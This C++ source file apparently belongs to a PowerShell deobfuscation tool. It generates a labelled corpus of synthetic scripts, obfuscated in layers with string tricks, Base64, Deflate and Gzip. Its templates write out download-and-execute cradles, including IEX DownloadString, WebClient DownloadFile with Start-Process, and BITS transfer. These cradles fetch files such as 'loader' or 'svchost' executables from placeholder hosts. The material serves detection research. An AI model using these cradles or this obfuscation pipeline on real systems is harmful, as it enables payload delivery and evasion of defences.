#include "psdeob/obfuscator.hpp"

#include "json.hpp"

#include <array>
#include <cstdio>
#include <fstream>
#include <functional>

namespace psdeob {

namespace {

using Rng = std::mt19937_64;

std::size_t draw(Rng& rng, std::size_t n) { return static_cast<std::size_t>(rng() % n); }

template <std::size_t N>
std::string pick(Rng& rng, const std::array<std::string_view, N>& from) {
    return std::string(from[draw(rng, N)]);
}

struct Names {
    std::string url;
    std::string file;
    std::string proc;
};

Names draw_names(Rng& rng) {
    static constexpr std::array<std::string_view, 8> kHosts{
        "update.example.com", "cdn.example.net", "203.0.113.7",       "files.example.org",
        "198.51.100.23",      "static.test.io",  "dl.contoso.example", "192.0.2.44",
    };
    static constexpr std::array<std::string_view, 6> kDirs{"payload", "img", "wp-content", "dl", "files", "s"};
    static constexpr std::array<std::string_view, 8> kStems{"invoice", "update", "svchost", "report",
                                                             "setup",   "patch",  "agent",   "loader"};
    static constexpr std::array<std::string_view, 2> kSchemes{"http", "https"};
    Names n;
    const std::string stem = pick(rng, kStems) + std::to_string(draw(rng, 90) + 10);
    n.file = stem + ".exe";
    n.proc = stem;
    n.url = pick(rng, kSchemes) + "://" + pick(rng, kHosts) + "/" + pick(rng, kDirs) + "/" + n.file;
    return n;
}

struct Template {
    std::string_view name;
    std::function<std::string(const Names&)> render;
};

const std::vector<Template>& templates() {
    static const std::vector<Template> kTemplates{
        {"webclient_downloadfile",
         [](const Names& n) {
             return "$wc = New-Object System.Net.WebClient\n$wc.DownloadFile('" + n.url + "', \"$env:TEMP\\" + n.file +
                    "\")\nStart-Process \"$env:TEMP\\" + n.file + "\"";
         }},
        {"inline_downexec",
         [](const Names& n) {
             return "(New-Object Net.WebClient).DownloadFile('" + n.url + "', '" + n.file + "'); Start-Process '" +
                    n.file + "'";
         }},
        {"iex_downloadstring",
         [](const Names& n) { return "IEX (New-Object Net.WebClient).DownloadString('" + n.url + "')"; }},
        {"webrequest_start",
         [](const Names& n) {
             return "Invoke-WebRequest -Uri '" + n.url + "' -OutFile \"" + n.file + "\"\nStart-Process -FilePath \"" +
                    n.file + "\"";
         }},
        {"download_shell",
         [](const Names& n) {
             return "$u = '" + n.url + "'\n(New-Object Net.WebClient).DownloadFile($u, '" + n.file +
                    "')\ncmd.exe /c \"start " + n.file + "\"";
         }},
        {"write_output",
         [](const Names& n) { return "Write-Output 'Hello from " + n.proc + "'\nGet-Date"; }},
        {"bits_transfer",
         [](const Names& n) {
             return "Start-BitsTransfer -Source '" + n.url + "' -Destination \"" + n.file + "\"\nInvoke-Item \"" +
                    n.file + "\"";
         }},
        {"stop_and_clean",
         [](const Names& n) {
             return "Stop-Process -Name '" + n.proc + "' -Force\nRemove-Item -Path \"$env:APPDATA\\" + n.file + "\"";
         }},
    };
    return kTemplates;
}

constexpr std::array<TechniqueTag, 6> kStringOrder{
    TechniqueTag::UpLowCase, TechniqueTag::Eval, TechniqueTag::Reordering,
    TechniqueTag::Concatenation, TechniqueTag::Tick, TechniqueTag::WhiteSpaces,
};

LayerSpec random_envelope(Rng& rng) {
    switch (draw(rng, 4)) {
        case 0: return {LayerType::encoded(LayerType::Encoding::Base64), {}};
        case 1: return {LayerType::encoded(LayerType::Encoding::Binary), {}};
        case 2: return {LayerType::compressed(LayerType::Compression::Deflate), {}};
        default: return {LayerType::compressed(LayerType::Compression::Gzip), {}};
    }
}

}  // namespace

std::vector<std::string_view> template_names() {
    std::vector<std::string_view> out;
    for (const auto& t : templates()) out.push_back(t.name);
    return out;
}

CleanSample clean_template(std::size_t index, Rng& rng) {
    const auto& t = templates()[index % templates().size()];
    const Names n = draw_names(rng);
    return {std::string(t.name), ScriptText::from_text(t.render(n), std::string(t.name))};
}

std::vector<LayerSpec> random_stack(Rng& rng) {
    const std::size_t depth = 1 + draw(rng, 3);
    std::vector<LayerSpec> out;
    if (draw(rng, 2) == 0) {
        LayerSpec s{LayerType::string_based(), {}};
        // A non-empty subset, applied in a fixed order so that earlier
        // techniques leave something for later ones to act on.
        const std::size_t mask = 1 + draw(rng, (1u << kStringOrder.size()) - 1);
        for (std::size_t i = 0; i < kStringOrder.size(); ++i) {
            if ((mask >> i) & 1u) s.techniques.push_back(kStringOrder[i]);
        }
        out.push_back(std::move(s));
    }
    while (out.size() < depth) out.push_back(random_envelope(rng));
    return out;
}

GeneratedCorpus generate_corpus(std::size_t count, std::uint64_t seed, const std::optional<std::vector<LayerSpec>>& spec) {
    constexpr int kMaxAttempts = 200;
    GeneratedCorpus corpus;
    Rng master(seed);
    for (std::size_t i = 0; i < count; ++i) {
        char name[32];
        std::snprintf(name, sizeof name, "sample_%05zu.ps1", i);
        bool done = false;
        for (int attempt = 0; attempt < kMaxAttempts && !done; ++attempt) {
            const std::uint64_t s = master();
            Rng rng(s);
            CleanSample clean = clean_template(draw(rng, templates().size()), rng);
            const std::vector<LayerSpec> stack = spec ? *spec : random_stack(rng);
            try {
                auto [script, label] = obfuscate_layers(clean.script, stack, s);
                script.source_id = name;
                corpus.samples.push_back({name, clean.template_name, s, clean.script, std::move(script), std::move(label)});
                done = true;
            } catch (const NotApplicable& e) {
                corpus.skipped.push_back(std::string(name) + " " + clean.template_name + " " +
                                         format_layer_spec(stack) + ": " + e.what());
            }
        }
        if (!done) {
            throw std::runtime_error(std::string("no applicable template for ") + name + " after " +
                                     std::to_string(kMaxAttempts) + " attempts");
        }
    }
    return corpus;
}

std::string labels_json(const GeneratedCorpus& corpus) {
    nlohmann::ordered_json j = nlohmann::ordered_json::object();
    for (const auto& s : corpus.samples) {
        nlohmann::ordered_json layers = nlohmann::ordered_json::array();
        for (const auto& l : s.label.layers) {
            nlohmann::ordered_json lj;
            lj["layer"] = describe(l.layer);
            lj["variant"] = to_string(l.layer.variant);
            nlohmann::ordered_json techs = nlohmann::ordered_json::array();
            for (auto t : l.techniques) techs.push_back(to_string(t));
            lj["techniques"] = techs;
            layers.push_back(std::move(lj));
        }
        j[s.file_name] = {{"template", s.template_name},
                          {"seed", s.seed},
                          {"spec", format_layer_spec(s.label.layers)},
                          {"layers", std::move(layers)}};
    }
    return j.dump(2) + "\n";
}

void write_corpus(const std::filesystem::path& dir, const GeneratedCorpus& corpus) {
    std::filesystem::create_directories(dir);
    auto write = [](const std::filesystem::path& p, const std::string& body) {
        std::ofstream out(p, std::ios::binary | std::ios::trunc);
        if (!out) {
            throw std::runtime_error("cannot write " + p.string());
        }
        out << body;
    };
    for (const auto& s : corpus.samples) {
        write(dir / s.file_name, s.script.content);
    }
    write(dir / "labels.json", labels_json(corpus));
}

}  // namespace psdeob
